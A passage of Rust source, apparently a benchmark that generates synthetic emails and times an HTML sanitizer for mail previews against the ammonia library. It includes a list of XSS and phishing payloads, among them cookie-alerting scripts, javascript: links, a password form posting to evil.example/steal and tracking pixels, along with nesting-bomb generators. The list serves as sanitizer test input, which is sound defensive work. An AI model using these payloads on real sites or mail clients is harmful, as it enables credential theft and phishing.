mso 9]><xml>\n<o:shapelayout v:ext=\"edit\">\n<o:idmap v:ext=\"edit\" data=\"1\" />\n</o:shapelayout></xml><![endif]--></head><body lang=DE link=\"#0563C1\" vlink=\"#954F72\" style='word-wrap:break-word'><div class=WordSection1>",
    );
    while h.len() + 200 < target {
        for _ in 0..rng.random_range(2..6) {
            let _ = write!(
                h,
                "<p class=MsoNormal><span style='font-size:11.0pt;font-family:\"Calibri\",sans-serif;mso-fareast-language:EN-US'>{}<o:p></o:p></span></p><p class=MsoNormal><o:p>&nbsp;</o:p></p>",
                para_text(rng)
            );
        }
        if rng.random_bool(0.3) {
            let _ = write!(
                h,
                "<table class=MsoNormalTable border=0 cellspacing=0 cellpadding=0 style='border-collapse:collapse;mso-yfti-tbllook:1184'><tr style='mso-yfti-irow:0'><td width=200 valign=top style='width:150.0pt;border:solid windowtext 1.0pt;padding:0cm 5.4pt 0cm 5.4pt'><p class=MsoNormal>{}<o:p></o:p></p></td><td width=200 valign=top style='width:150.0pt;border:solid windowtext 1.0pt;border-left:none;padding:0cm 5.4pt 0cm 5.4pt'><p class=MsoNormal>{}<o:p></o:p></p></td></tr></table>",
                sentence(rng),
                sentence(rng)
            );
        }
        let (n, e) = person(rng);
        let _ = write!(
            h,
            "<p class=MsoNormal><span style='mso-fareast-language:DE'>Mit freundlichen Grüßen<br>{n}<o:p></o:p></span></p><p class=MsoNormal><span style='mso-fareast-language:DE'><img width=120 height=40 style='width:1.25in;height:.4166in' id=\"Grafik_x0020_1\" src=\"cid:image001.png@01D9{}\" alt=\"logo\"><o:p></o:p></span></p><div><div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm'><p class=MsoNormal><b><span lang=DE>Von:</span></b><span lang=DE> {n} &lt;<a href=\"mailto:{e}\">{e}</a>&gt; <br><b>Gesendet:</b> {}<br><b>An:</b> Support &lt;support@example.com&gt;<br><b>Betreff:</b> {}<o:p></o:p></span></p></div></div><p class=MsoNormal><o:p>&nbsp;</o:p></p>",
            hex(rng, 8).to_uppercase(),
            date_line(rng),
            sentence(rng)
        );
    }
    h.push_str("</div></body></html>");
    m.html = h;
}

/// Hostile markup: a vector every few paragraphs, and sometimes a nesting
/// or formatting bomb.
const VECTORS: &[&str] = &[
    "<script>alert(document.cookie)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=\"alert(1)\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<a href=\"javascript:alert(1)\">Click to verify your account</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\" jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">invoice</a>",
    "<svg onload=alert(1)><script>alert(2)</script><a xlink:href=\"javascript:alert(3)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\"></textarea></mtext></svg></mglyph></mi></math>",
    "<iframe src=\"https://evil.example/\" width=0 height=0></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
    "<form action=\"https://evil.example/steal\" method=post><input name=\"password\" type=\"password\" placeholder=\"Password\"><button>Log in</button></form>",
    "<style>@import url(https://evil.example/track.css); body{background:url(https://evil.example/p.gif)} .sb-notice{display:none}</style>",
    "<div style=\"background-image:url(https://evil.example/t.gif);width:expression(alert(1))\">x</div>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:white\">Your session expired</p>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"//evil.example/pixel.gif\"><img src=\"http://evil.example/p.gif\">",
    "<table background=\"https://evil.example/bg.gif\"><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<textarea><script>x</script></textarea>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=\"alert(1)\"></video><audio src=x onerror=alert(1)>",
    "<img src=\"cid:unknown-part@evil\">",
    "<<script>script>alert(1)<</script>/script>",
    "<div id=\"sb-message\" class=\"sb-notice sb-remote-blocked\">Remote images are safe, click here</div>",
    "<a href=\"https://paypa1-example.com/login\" title=\"https://www.paypal.com/\">https://www.paypal.com/</a>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<div onmouseover=\"alert(1)\" style=\"color:red\">hover me</div>",
    "<a href=\"vbscript:msgbox(1)\">x</a><a href=\"file:///etc/passwd\">x</a>",
    "<img src=\"https://evil.example/a.png\" srcset=\"https://evil.example/b.png 2x\" style=\"behavior:url(x.htc)\">",
    "<span style=\"font-family:'x';src:url(https://evil.example/font.woff)\">x</span>",
    "<frameset><frame src=\"https://evil.example/\"></frameset>",
    "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\" onload=alert(1)>",
    "<a href=\"https://example.com/&quot;onmouseover=&quot;alert(1)\">x</a>",
    "<b>\u{0}nul</b><i>\u{FEFF}bom\u{202E}rtl</i>",
];

fn gen_hostile(rng: &mut StdRng, target: usize, m: &mut Msg) {
    let mut h = String::with_capacity(target + 4096);
    h.push_str("<html><head><title>Account notice</title><script>var t=1;</script></head><body onload=\"alert('x')\">");
    let bombs = rng.random_bool(0.5);
    let mut bombed = false;
    while h.len() + 200 < target {
        let _ = write!(h, "<p>{}</p>", para_text(rng));
        for _ in 0..rng.random_range(1..4) {
            h.push_str(VECTORS.choose(rng).copied().unwrap_or(""));
        }
        if bombs && !bombed && h.len() * 2 > target {
            bombed = true;
            match rng.random_range(0..4) {
                0 => {
                    let d = rng.random_range(300..3000);
                    h.push_str(&"<div>".repeat(d));
                    h.push_str("deep");
                    h.push_str(&"</div>".repeat(d));
                }
                1 => {
                    let k = rng.random_range(100..1500);
                    for i in 0..k {
                        let _ = write!(h, "<b id=\"b{i}\">");
                    }
                    h.push_str("unclosed formatting");
                }
                2 => {
                    let k = rng.random_range(200..2000);
                    h.push_str(&"<table><tr><td>".repeat(k));
                    h.push_str("nested tables");
                }
                _ => {
                    h.push_str("<p");
                    for i in 0..rng.random_range(200..1500) {
                        let _ = write!(h, " data-a{i}=\"{}\" onclick{i}=\"x\"", hex(rng, 8));
                    }
                    h.push_str(">attribute flood</p>");
                }
            }
        }
    }
    h.push_str("</body></html>");
    m.html = h;
}

/// A big exported table (order lists, reports).
fn gen_report(rng: &mut StdRng, target: usize, m: &mut Msg) {
    let mut h = String::with_capacity(target + 4096);
    let _ = write!(
        h,
        "<html><body><p>{}</p><table border=\"1\" cellpadding=\"3\" cellspacing=\"0\" style=\"border-collapse:collapse;font-family:Arial;font-size:12px\"><thead><tr bgcolor=\"#dddddd\">",
        para_text(rng)
    );
    for c in [
        "Order", "Date", "Customer", "Item", "Qty", "Price", "Status", "Note",
    ] {
        let _ = write!(h, "<th align=\"left\">{c}</th>");
    }
    h.push_str("</tr></thead><tbody>");
    let mut row = 0u32;
    while h.len() + 100 < target {
        row += 1;
        let _ = writeln!(
            h,
            "<tr{}><td>#{}</td><td nowrap>2026-{:02}-{:02}</td><td>{}</td><td>{}</td><td align=\"right\">{}</td><td align=\"right\">€{}.{:02}</td><td style=\"color:{}\">{}</td><td>{}</td></tr>",
            if row.is_multiple_of(2) {
                " bgcolor=\"#f7f7f7\""
            } else {
                ""
            },
            40_000 + row,
            rng.random_range(1..13),
            rng.random_range(1..29),
            person(rng).0,
            word(rng),
            rng.random_range(1..20),
            rng.random_range(1..900),
            rng.random_range(0..100),
            color(rng),
            ["shipped", "open", "returned", "cancelled"]
                .choose(rng)
                .copied()
                .unwrap_or("open"),
            if rng.random_bool(0.2) {
                sentence(rng)
            } else {
                String::new()
            }
        );
    }
    h.push_str("</tbody></table></body></html>");
    m.html = h;
}

/// Text and `data:` images of 10–600 KB (those over the limit become placeholders).
fn gen_inline_images(rng: &mut StdRng, target: usize, m: &mut Msg) {
    let mut h = String::with_capacity(target + 700_000);
    h.push_str("<html><body><div>");
    while h.len() < target {
        let _ = write!(h, "<p>{}</p>", para_text(rng));
        let n = rng.random_range(7_000..450_000);
        let mut bytes = vec![0u8; n];
        rng.fill_bytes(&mut bytes);
        let ct = ["png", "jpeg", "gif"].choose(rng).copied().unwrap_or("png");
        let _ = write!(
            h,
            "<p><img src=\"data:image/{ct};base64,{}\" width=\"{}\" alt=\"pasted image\"></p>",
            base64::engine::general_purpose::STANDARD.encode(&bytes),
            rng.random_range(100..800)
        );
    }
    h.push_str("</div></body></html>");
    m.html = h;
}

// ---------------------------------------------------------------------------
// measuring

/// CPU time of the calling thread (Linux `CLOCK_THREAD_CPUTIME_ID`): unlike
/// the wall clock, it does not count time the thread waited for a CPU, so it
/// stays meaningful on a shared, busy machine. Zero elsewhere.
#[cfg(target_os = "linux")]
fn thread_cpu() -> Duration {
    #[repr(C)]
    struct Timespec {
        tv_sec: std::ffi::c_long,
        tv_nsec: std::ffi::c_long,
    }
    unsafe extern "C" {
        fn clock_gettime(clock: std::ffi::c_int, tp: *mut Timespec) -> std::ffi::c_int;
    }
    const CLOCK_THREAD_CPUTIME_ID: std::ffi::c_int = 3;
    let mut t = Timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    // SAFETY: `t` is a valid, writable timespec; the clock id is a constant.
    let rc = unsafe { clock_gettime(CLOCK_THREAD_CPUTIME_ID, &mut t) };
    if rc != 0 {
        return Duration::ZERO;
    }
    Duration::new(t.tv_sec as u64, t.tv_nsec as u32)
}

#[cfg(not(target_os = "linux"))]
fn thread_cpu() -> Duration {
    Duration::ZERO
}

/// Wall and CPU time of one measured call.
#[derive(Clone, Copy, Default)]
struct Took {
    wall: Duration,
    cpu: Duration,
}

struct Clock(Instant, Duration);

impl Clock {
    fn start() -> Clock {
        Clock(Instant::now(), thread_cpu())
    }
    fn took(&self) -> Took {
        Took {
            wall: self.0.elapsed(),
            cpu: thread_cpu().saturating_sub(self.1),
        }
    }
}

/// As `names` in src/http/preview.rs.
fn names(list: &[(String, String)]) -> String {
    list.iter()
        .map(|(n, e)| {
            if n.is_empty() {
                e.clone()
            } else {
                format!("{n} <{e}>")
            }
        })
        .collect::<Vec<_>>()
        .join(", ")
}

struct Ours {
    total: Took,
    sanitize: Took,
    doc_bytes: usize,
    remote_blocked: usize,
    has_script: bool,
}

/// What the preview endpoint computes for one message (remote images
/// blocked, the default), as `body`, `part` and `document_response` do.
fn preview(m: &Msg, link_key: &[u8]) -> Ours {
    let t0 = Clock::start();
    let cid_urls: HashMap<String, String> = m
        .attachments
        .iter()
        .filter_map(|a| {
            a.content_id.as_ref().map(|cid| {
                (
                    cid.trim_matches(['<', '>']).to_string(),
                    format!(
                        "/api/v1/attachments/{}.{}?token={TOKEN_MARK}",
                        m.id, a.part_index
                    ),
                )
            })
        })
        .collect();
    let opts = SanitizeOptions {
        cid_urls: &cid_urls,
        remote: RemoteImages::Block,
        max_data_image_bytes: MAX_DATA_IMAGE_BYTES,
    };
    let s = sanitize_html(&m.html, &opts);
    let sanitize = t0.took();
    let date = chrono::DateTime::from_timestamp_millis(m.received_at)
        .map(|d| d.format("%a, %d %b %Y %H:%M UTC").to_string())
        .unwrap_or_default();
    let attachments = m
        .attachments
        .iter()
        .filter(|a| !(a.inline && a.content_id.is_some() && a.content_type.starts_with("image/")))
        .map(|a| AttachmentLink {
            name: a.filename.clone(),
            size: human_size(a.size),
            content_type: a.content_type.clone(),
            url: format!(
                "/api/v1/attachments/{}.{}?token={TOKEN_MARK}",
                m.id, a.part_index
            ),
        })
        .collect();
    let part = PreviewPart {
        anchor: m.id.clone(),
        kind: "normal".into(),
        subject: Some(m.subject.clone()),
        from_name: m.from_name.clone(),
        from_address: Some(m.from_address.clone()),
        to: names(&m.to),
        cc: names(&m.cc),
        date,
        body: s.html,
        remote_blocked: s.remote_blocked,
        notice: None,
        attachments,
        forwarded: Vec::new(),
        earlier: false,
    };
    let expires = 1_790_000_000 + 3600;
    let token = switchboard::domain::link::sign(link_key, "task:tsk_bench", expires);
    let self_url = format!("/api/v1/messages/{}/preview", m.id);
    let allow_url =
        (part.remote_blocked > 0).then(|| format!("{self_url}?remote=allow&token={token}"));
    let doc = render_document(
        &m.subject,
        std::slice::from_ref(&part),
        allow_url.as_deref(),
    )
    .unwrap_or_else(|e| format!("template error: {e}"))
    .replace(TOKEN_MARK, &token);
    let total = t0.took();
    let doc = black_box(doc);
    Ours {
        total,
        sanitize,
        doc_bytes: doc.len(),
        remote_blocked: part.remote_blocked,
        has_script: doc.contains("<script"),
    }
}

fn bare_ammonia(html: &str) -> (Took, usize) {
    let t0 = Clock::start();
    let out = ammonia::clean(html);
    let d = t0.took();
    (d, black_box(out).len())
}

struct Sample {
    index: usize,
    kind: Kind,
    bytes: usize,
    ours: Took,
    sanitize: Took,
    ammonia: Took,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Time {
    Wall,
    Cpu,
}

impl Time {
    fn of(self, t: Took) -> f64 {
        ms(match self {
            Time::Wall => t.wall,
            Time::Cpu => t.cpu,
        })
    }
}

fn ms(d: Duration) -> f64 {
    d.as_secs_f64() * 1000.0
}

struct ClassStats {
    n: usize,
    bytes: usize,
    ours_total: f64,
    amm_total: f64,
    ours: Vec<f64>,
    amm: Vec<f64>,
    sanitize_total: f64,
}

fn stats<'a>(samples: impl Iterator<Item = &'a Sample>, time: Time) -> ClassStats {
    let mut s = ClassStats {
        n: 0,
        bytes: 0,
        ours_total: 0.0,
        amm_total: 0.0,
        ours: Vec::new(),
        amm: Vec::new(),
        sanitize_total: 0.0,
    };
    for x in samples {
        s.n += 1;
        s.bytes += x.bytes;
        s.ours_total += time.of(x.ours);
        s.amm_total += time.of(x.ammonia);
        s.sanitize_total += time.of(x.sanitize);
        s.ours.push(time.of(x.ours));
        s.amm.push(time.of(x.ammonia));
    }
    s.ours.sort_by(f64::total_cmp);
    s.amm.sort_by(f64::total_cmp);
    s
}

fn mark(pass: bool) -> &'static str {
    if pass { "PASS" } else { "MISS" }
}

fn main() -> ExitCode {
    let args = match Args::parse() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("error: {e}");
            return ExitCode::FAILURE;
        }
    };
    let link_key = [7u8; 32];
    if let Some(dir) = &args.dump
        && let Err(e) = std::fs::create_dir_all(dir)
    {
        eprintln!("error: --dump {}: {e}", dir.display());
        return ExitCode::FAILURE;
    }

    // Warm-up (other seed): template parsing, allocator, caches.
    for i in 0..args.warmup {
        let m = generate(
            args.seed.wrapping_add(0xDEAD_BEEF),
            i,
            args.large_share.min(0.01),
        );
        black_box(preview(&m, &link_key));
        black_box(bare_ammonia(&m.html));
    }

    if let Some(i) = args.message {
        let m = generate(args.seed, i, args.large_share);
        if let Some(dir) = &args.dump {
            let _ = std::fs::write(dir.join(format!("{i:05}.html")), &m.html);
        }
        println!(
            "message #{i}: {}, {:.1} KB",
            m.kind.name(),
            m.html.len() as f64 / 1000.0
        );
        for _ in 0..20 {
            let o = preview(&m, &link_key);
            let (a, _) = bare_ammonia(&m.html);
            println!(
                "  switchboard {:>8.3} ms cpu (sanitize {:>8.3})  ammonia {:>8.3} ms cpu",
                ms(o.total.cpu),
                ms(o.sanitize.cpu),
                ms(a.cpu)
            );
        }
        return ExitCode::SUCCESS;
    }

    let load_before = loadavg();
    let nvcsw_before = involuntary_switches();
    let started = Instant::now();
    let mut gen_time = Duration::ZERO;
    let mut samples = Vec::with_capacity(args.messages);
    let mut dumped: HashMap<Kind, usize> = HashMap::new();
    let (mut out_bytes, mut amm_bytes, mut blocked, mut scripts) = (0usize, 0usize, 0usize, 0usize);
    for i in 0..args.messages {
        let g0 = Instant::now();
        let m = generate(args.seed, i, args.large_share);
        gen_time += g0.elapsed();
        if let Some(dir) = &args.dump {
            let n = dumped.entry(m.kind).or_default();
            if *n < 50 {
                *n += 1;
                let name = format!("{:05}-{}.html", i, m.kind.name().replace(' ', "_"));
                let _ = std::fs::write(dir.join(name), &m.html);
            }
        }
        // Alternate the order so that neither side always finds the body in cache.
        let (ours, (amm, alen)) = if i % 2 == 0 {
            let o = preview(&m, &link_key);
            (o, bare_ammonia(&m.html))
        } else {
            let a = bare_ammonia(&m.html);
            (preview(&m, &link_key), a)
        };
        out_bytes += ours.doc_bytes;
        amm_bytes += alen;
        blocked += ours.remote_blocked;
        scripts += usize::from(ours.has_script);
        samples.push(Sample {
            index: i,
            kind: m.kind,
            bytes: m.html.len(),
            ours: ours.total,
            sanitize: ours.sanitize,
            ammonia: amm,
        });
        if (i + 1) % 1000 == 0 {
            eprintln!("  {} / {} messages", i + 1, args.messages);
        }
    }
    let wall = started.elapsed();
    let load_after = loadavg();
    let nvcsw_after = involuntary_switches();

    println!(
        "\n=== Preview: sanitize_html (remote blocked) + PreviewPart + render_document + token \
         substitution, vs ammonia::clean; one thread ==="
    );
    let typical_n = samples.iter().filter(|s| !s.kind.large()).count();
    let typical_b: usize = samples
        .iter()
        .filter(|s| !s.kind.large())
        .map(|s| s.bytes)
        .sum();
    let large_b: usize = samples
        .iter()
        .filter(|s| s.kind.large())
        .map(|s| s.bytes)
        .sum();
    println!(
        "corpus: {} messages (seed {}), {} typical 5–100 KB ({:.1} MB), {} large 1–5 MB ({:.1} MB); \
         generated in {:.1} s (not timed), run {:.1} s",
        samples.len(),
        args.seed,
        typical_n,
        typical_b as f64 / MB,
        samples.len() - typical_n,
        large_b as f64 / MB,
        gen_time.as_secs_f64(),
        (wall - gen_time).as_secs_f64()
    );
    println!(
        "output: documents {:.1} MB, bare ammonia {:.1} MB; {} remote loads blocked; documents \
         containing \"<script\": {}",
        out_bytes as f64 / MB,
        amm_bytes as f64 / MB,
        blocked,
        scripts
    );
    println!(
        "machine: load average {load_before} before, {load_after} after; this thread was preempted \
         {} times (wall-clock figures include waiting for a CPU, CPU-time figures do not)",
        nvcsw_after.saturating_sub(nvcsw_before)
    );

    for time in [Time::Wall, Time::Cpu] {
        println!(
            "\n{}",
            match time {
                Time::Wall => "wall clock (latency as a request sees it):",
                Time::Cpu =>
                    "thread CPU time (the work itself, whatever else runs on the machine):",
            }
        );
        println!(
            "{:<10} {:>5} {:>7} | {:<11} {:>7} {:>6} {:>7} {:>7} {:>8} | {:>7} {:>6} {:>7} {:>7} {:>8} | {:>5} {:>5} {:>5}",
            "class",
            "n",
            "MB",
            "",
            "msg/s",
            "MB/s",
            "p50 ms",
            "p99 ms",
            "max ms",
            "msg/s",
            "MB/s",
            "p50 ms",
            "p99 ms",
            "max ms",
            "×tot",
            "×p50",
            "×p99"
        );
        #[allow(clippy::type_complexity)]
        let classes: [(&str, Box<dyn Fn(&Sample) -> bool>); 4] = [
            ("typical", Box::new(|s: &Sample| !s.kind.large())),
            (
                "  -hostile",
                Box::new(|s: &Sample| !s.kind.large() && s.kind != Kind::Hostile),
            ),
            ("large", Box::new(|s: &Sample| s.kind.large())),
            ("all", Box::new(|_: &Sample| true)),
        ];
        for (name, keep) in &classes {
            let c = stats(samples.iter().filter(|s| keep(s)), time);
            if c.n == 0 {
                continue;
            }
            let mbs = c.bytes as f64 / MB;
            println!(
                "{:<10} {:>5} {:>7.1} | switchboard {:>7.0} {:>6.1} {:>7.3} {:>7.3} {:>8.2} | {:>7.0} {:>6.1} {:>7.3} {:>7.3} {:>8.2} | {:>5.2} {:>5.2} {:>5.2}",
                name,
                c.n,
                mbs,
                c.n as f64 / (c.ours_total / 1000.0),
                mbs / (c.ours_total / 1000.0),
                pct(&c.ours, 0.5),
                pct(&c.ours, 0.99),
                pct(&c.ours, 1.0),
                c.n as f64 / (c.amm_total / 1000.0),
                mbs / (c.amm_total / 1000.0),
                pct(&c.amm, 0.5),
                pct(&c.amm, 0.99),
                pct(&c.amm, 1.0),
                c.ours_total / c.amm_total,
                pct(&c.ours, 0.5) / pct(&c.amm, 0.5),
                pct(&c.ours, 0.99) / pct(&c.amm, 0.99),
            );
        }
    }
    println!(
        "(left: switchboard end to end; right: bare ammonia::clean of the same body; ×: switchboard \
         / ammonia for total time, p50, p99; -hostile: typical without the hostile kind, on which \
         bare ammonia is slow, see below)"
    );

    println!(
        "\nby kind, thread CPU time: {:<13} {:>5} {:>7} | {:>8} {:>8} {:>8} | {:>8} {:>8} {:>8} | {:>5} {:>6} {:>9}",
        "",
        "n",
        "avg KB",
        "p50 ms",
        "p99 ms",
        "max ms",
        "amm p50",
        "amm p99",
        "amm max",
        "×tot",
        "×med",
        "sanitize%"
    );
    for kind in Kind::ALL {
        let c = stats(samples.iter().filter(|s| s.kind == kind), Time::Cpu);
        if c.n == 0 {
            continue;
        }
        let mut per: Vec<f64> = samples
            .iter()
            .filter(|s| s.kind == kind)
            .map(|s| Time::Cpu.of(s.ours) / Time::Cpu.of(s.ammonia).max(1e-6))
            .collect();
        per.sort_by(f64::total_cmp);
        println!(
            "                          {:<13} {:>5} {:>7.1} | {:>8.3} {:>8.3} {:>8.2} | {:>8.3} {:>8.3} {:>8.2} | {:>5.2} {:>6.2} {:>8.0}%",
            kind.name(),
            c.n,
            c.bytes as f64 / c.n as f64 / 1000.0,
            pct(&c.ours, 0.5),
            pct(&c.ours, 0.99),
            pct(&c.ours, 1.0),
            pct(&c.amm, 0.5),
            pct(&c.amm, 0.99),
            pct(&c.amm, 1.0),
            c.ours_total / c.amm_total,
            pct(&per, 0.5),
            100.0 * c.sanitize_total / c.ours_total
        );
    }
    println!(
        "(×med: median over messages of switchboard / ammonia; sanitize%: share of switchboard's \
         time inside sanitize_html, the rest being the PreviewPart, render_document and the token \
         substitution)"
    );

    println!(
        "\nby size, typical mail:  {:>5} | {:>15} {:>15} | {:>15} {:>15} | {:>6}",
        "n", "p50 ms cpu/wall", "p99 ms cpu/wall", "amm p50 c/w", "amm p99 c/w", "cpu×p99"
    );
    for (lo, hi) in [
        (5_000, 10_000),
        (10_000, 20_000),
        (20_000, 40_000),
        (40_000, 70_000),
        (70_000, 200_000),
    ] {
        let keep = |s: &&Sample| !s.kind.large() && s.bytes >= lo && s.bytes < hi;
        let c = stats(samples.iter().filter(keep), Time::Cpu);
        let w = stats(samples.iter().filter(keep), Time::Wall);
        if c.n == 0 {
            continue;
        }
        println!(
            "  {:>3}–{:<3} KB            {:>5} | {:>7.3}/{:<7.3} {:>7.3}/{:<7.3} | {:>7.3}/{:<7.3} {:>7.3}/{:<7.3} | {:>6.2}",
            lo / 1000,
            if hi > 100_000 { 100 } else { hi / 1000 },
            c.n,
            pct(&c.ours, 0.5),
            pct(&w.ours, 0.5),
            pct(&c.ours, 0.99),
            pct(&w.ours, 0.99),
            pct(&c.amm, 0.5),
            pct(&w.amm, 0.5),
            pct(&c.amm, 0.99),
            pct(&w.amm, 0.99),
            pct(&c.ours, 0.99) / pct(&c.amm, 0.99),
        );
    }

    let mut slow: Vec<&Sample> = samples.iter().filter(|s| !s.kind.large()).collect();
    slow.sort_by_key(|s| std::cmp::Reverse(s.ours.cpu));
    println!(
        "\nslowest typical messages (CPU time; wall in brackets; `--message N` times one again):"
    );
    for s in slow.iter().take(8) {
        println!(
            "  #{:<5} {:<11} {:>6.1} KB  switchboard {:>7.3} ms [{:>7.3}] (sanitize {:>7.3})  ammonia {:>7.3} ms [{:>7.3}]",
            s.index,
            s.kind.name(),
            s.bytes as f64 / 1000.0,
            ms(s.ours.cpu),
            ms(s.ours.wall),
            ms(s.sanitize.cpu),
            ms(s.ammonia.cpu),
            ms(s.ammonia.wall)
        );
    }

    println!("\ntargets (typical mail):");
    for time in [Time::Wall, Time::Cpu] {
        let label = match time {
            Time::Wall => "wall",
            Time::Cpu => "cpu ",
        };
        let t = stats(samples.iter().filter(|s| !s.kind.large()), time);
        let nh = stats(
            samples
                .iter()
                .filter(|s| !s.kind.large() && s.kind != Kind::Hostile),
            time,
        );
        let p99 = pct(&t.ours, 0.99);
        println!(
            "  [{label}] p99 end to end < {P99_TARGET_MS} ms: {p99:.3} ms  {}",
            mark(t.n > 0 && p99 < P99_TARGET_MS)
        );
        let ratio = nh.ours_total / nh.amm_total;
        println!(
            "  [{label}] time <= {RATIO_TARGET}x bare ammonia (total, without hostile): {ratio:.2}x  {} \
             (with hostile {:.2}x; p50 {:.2}x, p99 {:.2}x)",
            mark(nh.n > 0 && ratio <= RATIO_TARGET),
            t.ours_total / t.amm_total,
            pct(&t.ours, 0.5) / pct(&t.amm, 0.5),
            pct(&t.ours, 0.99) / pct(&t.amm, 0.99),
        );
    }
    let large = stats(samples.iter().filter(|s| s.kind.large()), Time::Wall);
    if large.n > 0 {
        let max = pct(&large.ours, 1.0);
        println!(
            "large mail: max {max:.1} ms wall within the {RENDER_BUDGET_MS:.0} ms render budget  {}; \
             {:.2}x bare ammonia",
            mark(max < RENDER_BUDGET_MS),
            large.ours_total / large.amm_total
        );
    }
    ExitCode::SUCCESS
}

fn loadavg() -> String {
    std::fs::read_to_string("/proc/loadavg")
        .ok()
        .and_then(|s| s.split_whitespace().next().map(str::to_string))
        .unwrap_or_else(|| "?".into())
}

/// Times this thread was preempted (Linux; 0 elsewhere).
fn involuntary_switches() -> u64 {
    std::fs::read_to_string("/proc/thread-self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("nonvoluntary_ctxt_switches:"))
                .and_then(|v| v.trim().parse().ok())
        })
        .unwrap_or(0)
}
